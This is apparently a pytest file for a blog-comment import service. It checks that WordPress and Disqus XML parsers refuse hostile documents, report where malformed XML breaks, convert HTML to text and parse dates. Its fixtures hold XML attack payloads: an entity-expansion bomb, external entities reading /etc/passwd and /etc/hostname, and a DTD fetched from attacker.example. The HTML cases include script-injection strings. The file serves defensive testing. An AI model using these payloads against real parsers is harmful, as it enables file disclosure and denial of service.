"""Hostile and malformed XML is refused with a clear message; HTML to text; dates."""

from __future__ import annotations

import io
from collections.abc import Callable, Iterator

import pytest

from service.imports import ImportedComment, ImportFormatError, ImportRefusedError
from service.imports._xml import html_to_text, parse_time
from service.imports.disqus import parse_disqus
from service.imports.wordpress import parse_wordpress
from tests.service.imports.exports import WXR_TAIL, WpComment, wp_item, wxr_head

Parser = Callable[[io.BytesIO, str], Iterator[ImportedComment]]
PARSERS = pytest.mark.parametrize("parse", [parse_wordpress, parse_disqus], ids=["wp", "disqus"])

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE rss [
 <!ENTITY a "laugh">
 <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
 <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
 <!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">
 <!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">
 <!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">
 <!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;">
 <!ENTITY h "&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;">
 <!ENTITY i "&h;&h;&h;&h;&h;&h;&h;&h;&h;&h;">
]>
<rss><channel><item><link>https://x.example</link><comment>&i;</comment></item></channel></rss>
"""
EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<rss xmlns:wp="http://wordpress.org/export/1.2/"><channel><item><link>https://x.example</link>
<wp:comment><wp:comment_id>1</wp:comment_id><wp:comment_content>&secret;</wp:comment_content>
<wp:comment_approved>1</wp:comment_approved></wp:comment></item></channel></rss>
"""
EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE disqus SYSTEM "http://attacker.example/evil.dtd">
<disqus><post id="1"><message>hi</message></post></disqus>
"""
PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE disqus [<!ENTITY % remote SYSTEM "file:///etc/hostname"> %remote;]>
<disqus/>
"""


@PARSERS
@pytest.mark.parametrize(
    "document",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY],
    ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity"],
)
def test_dtds_and_entities_are_refused_for_safety(parse: Parser, document: str) -> None:
    with pytest.raises(ImportRefusedError, match="refused for safety") as caught:
        list(parse(io.BytesIO(document.encode()), "hostile.xml"))
    assert "root:" not in str(caught.value)
    assert "hostile.xml" in str(caught.value)


def test_an_entity_refused_in_the_middle_yields_nothing_after_it() -> None:
    """A DTD is refused where it is met: before the first comment, so nothing is read."""
    seen: list[ImportedComment] = []
    with pytest.raises(ImportRefusedError):
        seen.extend(parse_wordpress(io.BytesIO(EXTERNAL_ENTITY.encode()), "hostile.xml"))
    assert seen == []


@PARSERS
@pytest.mark.parametrize(
    ("document", "where"),
    [
        ("<ROOT><channel>\n<item>\n<link>x</lnk>", "line 3, column 10: mismatched tag"),
        ("", "line 1, column 1: no element found"),
        ("\x89PNG\r\n\x1a\n binary", "line 1, column 1: not well-formed"),
        ("just some text", "line 1, column 1: syntax error"),
        ("<ROOT>\n<channel>", "line 2, column 10: no element found"),
    ],
    ids=["mismatched", "empty", "binary", "text", "truncated"],
)
def test_malformed_xml_says_where(parse: Parser, document: str, where: str) -> None:
    root = "rss" if parse is parse_wordpress else "disqus"
    source = io.BytesIO(document.replace("ROOT", root).encode())
    with pytest.raises(ImportFormatError, match="^broken.xml: not well-formed XML at " + where):
        list(parse(source, "broken.xml"))


def test_an_error_after_some_comments_comes_after_them() -> None:
    good = wp_item("https://blog.example/p", [WpComment(1, "Fine."), WpComment(2, "Also fine.")])
    document = (
        wxr_head() + good + "<item><link>https://blog.example/q</link><wp:comment>" + WXR_TAIL
    )
    seen: list[ImportedComment] = []
    with pytest.raises(ImportFormatError, match="mismatched tag"):
        seen.extend(parse_wordpress(io.BytesIO(document.encode()), "cut.xml"))
    assert [c.text for c in seen] == ["Fine.", "Also fine."]


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("plain words", "plain words"),
        ("  fish &amp; chips  ", "fish & chips"),
        ("<p>one</p><p>two</p>", "one\n\ntwo"),
        ("a<br>b<br/>c", "a\nb\nc"),
        ("<p>x</p>\n\n\n<p>y</p>", "x\n\ny"),
        ('<a href="https://e.example/p">https://e.example/p</a>', "https://e.example/p"),
        (
            '<a href="https://e.example/long/path">e.example/long/pa…</a>',
            "https://e.example/long/path",
        ),
        ('<a href="https://e.example/">click here</a>', "click here (https://e.example/)"),
        ('<a href="javascript:alert(1)">click</a>', "click"),
        ("<script>alert(1)</script>kept", "kept"),
        ("a &lt;b&gt; tag", "a <b> tag"),
        ("<ul><li>one</li><li>two</li></ul>", "one\n\ntwo"),
    ],
)
def test_html_to_text(html: str, text: str) -> None:
    assert html_to_text(html) == text


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("2021-06-01 09:30:00", 1622539800.0),
        ("2021-06-01T09:30:00Z", 1622539800.0),
        ("2021-06-01T11:30:00+02:00", 1622539800.0),
        ("0000-00-00 00:00:00", None),
        ("", None),
        ("yesterday", None),
    ],
)
def test_parse_time(value: str, expected: float | None) -> None:
    assert parse_time(value) == expected
